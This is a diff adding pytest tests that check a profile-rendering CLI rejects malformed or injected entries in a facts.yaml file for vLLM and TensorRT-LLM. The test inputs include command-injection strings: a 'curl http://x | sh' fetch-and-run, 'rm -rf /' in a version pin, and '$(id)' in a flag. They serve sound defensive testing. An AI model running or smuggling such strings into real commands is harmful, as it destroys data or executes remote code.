@@ -72,3 +72,58 @@ def test_shipped_facts_are_never_replaced_and_sources_are_required(tmp_path: Pat
     assert lines[1].startswith("facts.yaml:4:5: serving/vllm.releases.0.34.0: a fact needs its "
                                "source")
     assert lines[2].startswith("facts.yaml:5:1: nope: not a component's facts; use one of: ")
+
+
+def _refused(tmp_path: Path, facts: str) -> list[str]:
+    """Render PROFILE with ``facts`` as its knowledge file; the error lines (exit 2, no file)."""
+    (tmp_path / "facts.yaml").write_text(facts)
+    (tmp_path / "p.yaml").write_text(PROFILE)
+    result = run_cli("render", "p.yaml", "-o", "out", cwd=tmp_path)
+    assert result.rc == 2, result.err
+    assert "Traceback" not in result.err
+    assert not (tmp_path / "out").exists()
+    return result.err.splitlines()
+
+
+def test_tables_that_feed_commands_are_closed(tmp_path: Path) -> None:
+    """Review finding: a runtime_apt "row" put shell text into `apt-get install`."""
+    lines = _refused(tmp_path, 'serving/tensorrt_llm:\n  runtime_apt:\n'
+                               '    "g++ && curl http://x | sh #": {src: me}\n')
+    assert lines[0] == ("facts.yaml:2:3: serving/tensorrt_llm.runtime_apt: not a table of rows "
+                        "that can be added to; add rows to one of: releases, quantization, "
+                        "kv_cache")
+
+
+def test_a_release_row_needs_every_field_of_the_shipped_rows(tmp_path: Path) -> None:
+    """Was KeyError: 'torch' (exit 1) when the engine stage read the row."""
+    lines = _refused(tmp_path, 'serving/vllm:\n  releases:\n    "0.34.0": {src: "x"}\n')
+    assert lines[0] == (
+        "facts.yaml:3:5: serving/vllm.releases.0.34.0: missing cuda_major, python, torch; "
+        'give every field the shipped rows have, e.g. cuda_major: 12, python: ">=3.9,<3.13", '
+        'torch: "2.7.0"')
+
+
+def test_values_and_fields_must_have_the_shape_of_the_shipped_rows(tmp_path: Path) -> None:
+    """Was InvalidSpecifier (a traceback); a pin or flag with shell text must never render."""
+    lines = _refused(tmp_path, (
+        "serving/vllm:\n  releases:\n"
+        '    "0.34.0": {torch: "2.14.0 ; rm -rf /", python: "not a range", cuda_major: 13,\n'
+        '               src: "x", colour: red}\n'
+        "  kv_cache:\n"
+        '    int8: {min_cc: "8.0", flag: "int8 $(id)", src: "x"}\n'))
+    assert lines[:4] == [
+        'facts.yaml:3:16: serving/vllm.releases.0.34.0.torch: "2.14.0 ; rm -rf /" is not a '
+        'release version (PEP 440); write a release version (PEP 440) such as "2.7.0"',
+        'facts.yaml:3:44: serving/vllm.releases.0.34.0.python: "not a range" is not a version '
+        'range (PEP 440); write a version range (PEP 440) such as ">=3.9,<3.13"',
+        "facts.yaml:4:26: serving/vllm.releases.0.34.0.colour: not a field of "
+        "serving/vllm.releases rows; use one of: cuda_major, python, src, torch, unverified",
+        'facts.yaml:6:27: serving/vllm.kv_cache.int8.flag: "int8 $(id)" is not a value the '
+        "shipped rows use or null; write one of: fp8, fp8_e4m3 or null"]
+
+
+def test_release_keys_must_be_versions(tmp_path: Path) -> None:
+    lines = _refused(tmp_path, 'torch:\n  releases:\n    "2.16.0": {python: ">=3.11", '
+                               'pypi_cuda_major: 13, cxx_min: 20, cuda: ["13.0"], src: "x"}\n')
+    assert lines[0] == ('facts.yaml:3:5: torch.releases.2.16.0: "2.16.0" is not MAJOR.MINOR; '
+                        'key the row by MAJOR.MINOR such as "2.7"')
